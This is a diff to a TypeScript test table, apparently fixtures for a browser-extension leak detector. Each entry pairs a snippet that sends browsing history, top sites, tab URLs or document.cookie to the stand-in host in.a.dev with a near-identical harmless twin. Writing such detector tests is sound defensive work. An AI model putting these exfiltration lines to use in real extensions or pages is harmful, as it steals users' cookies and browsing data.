@@ -361,6 +361,42 @@ const sanitisers: readonly Twin[] = [
     "window.addEventListener('message', (e) => { const { n } = e.data; if (typeof n === 'string') eval('f(' + n + ')') })",
     "window.addEventListener('message', (e) => { const { n } = e.data; if (typeof n === 'number') eval('f(' + n + ')') })",
   ],
+  [
+    'addresses that lead to no host',
+    'history > network',
+    "chrome.history.search({ text: '' }, ([{ url }]) => { const icon = `https://in.a.dev/icon?${url}`; new Image().src = icon })",
+    "chrome.history.search({ text: '' }, ([{ url }]) => { const icon = `chrome://favicon/${url}`; new Image().src = icon })",
+  ],
+  [
+    'addresses of the package that are given parts',
+    'top-sites > network',
+    "const icon = (u) => { const at = new URL('https://in.a.dev/i'); at.searchParams.set('u', u); return at.href }; chrome.topSites.get(([s]) => { new Image().src = icon(s.url) })",
+    "const icon = (u) => { const at = new URL(chrome.runtime.getURL('/_favicon/')); at.searchParams.set('u', u); return at.href }; chrome.topSites.get(([s]) => { new Image().src = icon(s.url) })",
+  ],
+  [
+    'addresses without a host from those that hold one as text',
+    theft,
+    "const held = 'data:text/plain,' + document.cookie; fetch('https://in.a.dev/?d=' + held)",
+    "const held = 'data:text/plain,' + document.cookie; fetch(held)",
+  ],
+  [
+    'texts that are sent from addresses',
+    theft,
+    "const held = 'about:' + document.cookie; fetch('https://in.a.dev', { method: 'POST', body: held })",
+    "const held = 'about:' + document.cookie; fetch(held, { method: 'POST' })",
+  ],
+  [
+    'addresses that are replaced',
+    theft,
+    "fetch(('about:' + document.cookie).replace('about:', 'https://in.a.dev/'))",
+    "fetch(('about:' + document.cookie).trim())",
+  ],
+  [
+    'icons of tabs from their addresses',
+    'tabs > network',
+    "chrome.tabs.query({}, ([tab]) => fetch('https://in.a.dev/?' + tab.url))",
+    "chrome.tabs.query({}, ([tab]) => fetch('https://in.a.dev/?' + tab.favIconUrl))",
+  ],
 ];
 
 const tables: Readonly<Record<string, readonly Twin[]>> = {
